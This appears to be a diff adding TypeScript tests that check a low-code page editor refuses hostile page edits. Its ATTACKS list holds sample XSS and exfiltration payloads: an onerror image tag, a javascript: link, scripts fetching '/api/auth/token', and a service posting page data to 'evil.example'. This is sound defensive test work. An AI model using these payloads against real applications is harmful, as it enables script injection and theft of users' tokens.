@@ -115,7 +115,7 @@ describe('page overrides', () => {
         note: null,
       }),
     ).rejects.toThrow('not valid amis');
-    expect(await caller.page.check({ schema: { type: 'page', title: 'ok' } })).toEqual({
+    expect(await caller.page.check({ ...desk, schema: { type: 'page', title: 'ok' } })).toEqual({
       ok: true,
     });
     const viewer = (await callerAs(services(), ['viewer'])).caller;
@@ -140,5 +140,146 @@ describe('page overrides', () => {
     const viewer = (await callerAs(services(), ['viewer'])).caller;
     const seen = JSON.stringify((await viewer.page.entity(desk)).schema);
     expect(seen).not.toContain('Quick ticket');
+  });
+
+  describe('what an edit may hold', () => {
+    /** The generated page with `change` made to it. */
+    const edited = async (change: (page: Record<string, any>) => void) => {
+      const { caller } = await callerAs(services(), ['admin']);
+      const page = structuredClone((await caller.page.source(desk)).generated) as Record<
+        string,
+        any
+      >;
+      change(page);
+      return page;
+    };
+    const ATTACKS: [string, (page: Record<string, any>) => void, RegExp][] = [
+      [
+        'a custom action running script on init',
+        (page) => {
+          page.onEvent = {
+            init: { actions: [{ actionType: 'custom', script: 'fetch("/api/auth/token")' }] },
+          };
+        },
+        /onEvent\.init\.actions\.0\.actionType: custom actions run script/,
+      ],
+      [
+        'a tpl with raw HTML',
+        (page) => {
+          page.body.push({ type: 'tpl', tpl: '<img src=x onerror=alert(1)>' });
+        },
+        /raw HTML is not allowed/,
+      ],
+      [
+        'a service posting page data to another origin',
+        (page) => {
+          page.body.push({
+            type: 'service',
+            api: { method: 'post', url: 'https://evil.example/x', data: { '&': '$$' } },
+          });
+        },
+        /API addresses may only call this project's data API \(http:\/\/rt\/api\/v1\/desk\/…\)/,
+      ],
+      [
+        'a lodash template',
+        (page) => {
+          page.title = "<%= fetch('/api/auth/token') %>";
+        },
+        /lodash templates/,
+      ],
+      [
+        'an adaptor changed to script',
+        (page) => {
+          page.body[0].api = {
+            method: 'get',
+            url: 'http://rt/api/v1/desk/ticket',
+            adaptor: 'return fetch("x")',
+          };
+        },
+        /'adaptor' runs script/,
+      ],
+      [
+        'a javascript: link',
+        (page) => {
+          page.body.push({
+            type: 'button',
+            label: 'Go',
+            actionType: 'url',
+            url: 'javascript:alert(1)',
+          });
+        },
+        /links may not run script/,
+      ],
+      [
+        'an html component',
+        (page) => {
+          page.body.push({ type: 'html', html: 'hello' });
+        },
+        /html components show raw HTML/,
+      ],
+    ];
+
+    it.each(ATTACKS)(
+      'refuses %s when saved, naming it in the check',
+      async (_name, change, reason) => {
+        const { caller } = await callerAs(services(), ['admin']);
+        const schema = await edited(change);
+        const check = await caller.page.check({ ...desk, schema });
+        expect(check.ok).toBe(false);
+        expect(check.ok ? [] : check.errors).toEqual(
+          expect.arrayContaining([expect.stringMatching(reason)]),
+        );
+        await expect(caller.page.save({ ...desk, schema, note: null })).rejects.toMatchObject({
+          code: 'UNPROCESSABLE_CONTENT',
+          message: expect.stringMatching(reason),
+        });
+      },
+    );
+
+    it('still takes labels, formulas and calls to the data API', async () => {
+      const { caller } = await callerAs(services(), ['admin']);
+      const schema = await edited((page) => {
+        page.title = 'Tickets of ${__user} (a < b)';
+        page.body.push({ type: 'service', api: 'get:http://rt/api/v1/desk/ticket?perPage=1' });
+        page.body.push({
+          type: 'button',
+          label: 'Help',
+          actionType: 'url',
+          url: 'https://example.com/help',
+        });
+      });
+      expect(await caller.page.check({ ...desk, schema })).toEqual({ ok: true });
+      await expect(caller.page.save({ ...desk, schema, note: null })).resolves.toMatchObject({
+        version: expect.any(Number),
+      });
+    });
+
+    it('leaves out a stored edit that holds what a page may not, and tells its editors', async () => {
+      const { caller } = await callerAs(services(), ['admin']);
+      const project = await t.db.metaProject.findUniqueOrThrow({ where: { code: 'desk' } });
+      const latest = await t.db.pageOverride.findFirst({
+        where: { projectId: project.id },
+        orderBy: { version: 'desc' },
+      });
+      // Written past the checks, as an edit saved before them would be.
+      await t.db.pageOverride.create({
+        data: {
+          projectId: project.id,
+          entityId: latest!.entityId,
+          version: latest!.version + 1,
+          patch: { $object: { title: { $set: '<img src=x onerror=alert(1)>' } } },
+        },
+      });
+      const viewer = (await callerAs(services(), ['viewer'])).caller;
+      const seen = await viewer.page.entity(desk);
+      expect(JSON.stringify(seen.schema)).not.toContain('onerror');
+      const editor = await caller.page.entity(desk);
+      expect(editor.override?.conflicts).toEqual([
+        expect.stringMatching(/^Left out, a page may not hold it: title: raw HTML/),
+      ]);
+      await expect(
+        caller.page.restore({ ...desk, version: latest!.version + 1 }),
+      ).rejects.toMatchObject({ message: expect.stringMatching(/holds what a page may not/) });
+    });
   });
 });
